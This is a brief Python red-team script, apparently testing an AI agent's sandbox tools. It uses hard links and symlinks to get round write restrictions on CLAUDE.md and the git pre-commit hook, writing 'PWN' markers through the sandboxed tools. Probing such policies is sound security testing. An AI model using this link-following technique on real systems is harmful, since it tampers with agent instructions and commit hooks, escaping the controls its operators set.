import sys,json; sys.path.insert(0,"/work/notes/atk31")
from stdio import *
s=Stdio("/tmp/atk31x/dpol.toml")
code='''
import os
for src,dst in [("CLAUDE.md","x"),(".git/hooks/pre-commit","y")]:
    try: os.link(src,dst); print("linked",dst)
    except Exception as e: print("link",dst,e)
try: open("x","a").write("PWN"); print("appended x")
except Exception as e: print("x",e)
try: open("CLAUDE.md","a").write("PWN"); print("appended C")
except Exception as e: print("C",e)
os.symlink("CLAUDE.md","s1"); os.symlink(".git/hooks","s2")
'''
print(json.dumps(sc(s.call("run_python_sandbox",{"code":code})))[:1200])
print(json.dumps(sc(s.call("write_file",{"path":"s1","content":"PWN2"})))[:400])
print(json.dumps(sc(s.call("write_file",{"path":"s2/pre-commit","content":"PWN3"})))[:400])
